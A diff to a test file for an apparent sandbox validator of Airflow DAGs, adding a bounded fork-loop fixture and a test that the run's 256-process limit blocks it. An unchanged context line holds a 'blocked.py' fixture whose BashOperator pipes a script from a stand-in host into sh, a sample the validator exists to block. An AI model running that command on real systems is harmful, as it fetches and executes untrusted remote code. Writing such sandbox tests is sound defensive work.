@@ -70,6 +70,10 @@ DAGS = {
     "blocked.py": """
     BashOperator(task_id="t", bash_command="curl -s http://x.example/i.sh | sh")
 """,
+    # bounded: 300 sleeps of 1 s, more than the run's 256 processes; bash retries refused forks
+    "forks.py": """
+    BashOperator(task_id="many", bash_command="for i in $(seq 300); do sleep 1 & done; wait; echo done")
+""",
 }
 
 
@@ -177,6 +181,18 @@ def test_shell_tasks_cannot_write_outside_or_leave_the_namespace(
     assert "Read-only file system" in failed["write_outside"].message
     assert "no namespace could be entered" in failed["enter_host_network"].message
     assert not list(Path("/tmp").glob("assistant-run-escape-*"))
+
+
+def test_tasks_are_held_to_the_run_s_process_limit(batch: tuple[Path, Config, ValidationReport]) -> None:
+    _, _, report = batch
+    processes = report.sandbox["run"]["processes"]
+    if "pids cgroup" not in processes:
+        pytest.skip(f"no writable pids cgroup here: {processes}")
+    assert processes == "at most 256 processes and threads (pids cgroup)"  # 4 x max_processes
+    [limit] = _rules(report, "forks.py")["sandbox.process-limit"]
+    assert limit.severity == "block" and "while DAG run_forks ran" in limit.message
+    assert "limit of 256 processes" in limit.message and "max_processes" in limit.hint
+    assert _file(report, "succeeds.py").ok  # the other runs stayed well below it
 
 
 def test_blocked_files_are_never_run(batch: tuple[Path, Config, ValidationReport]) -> None:
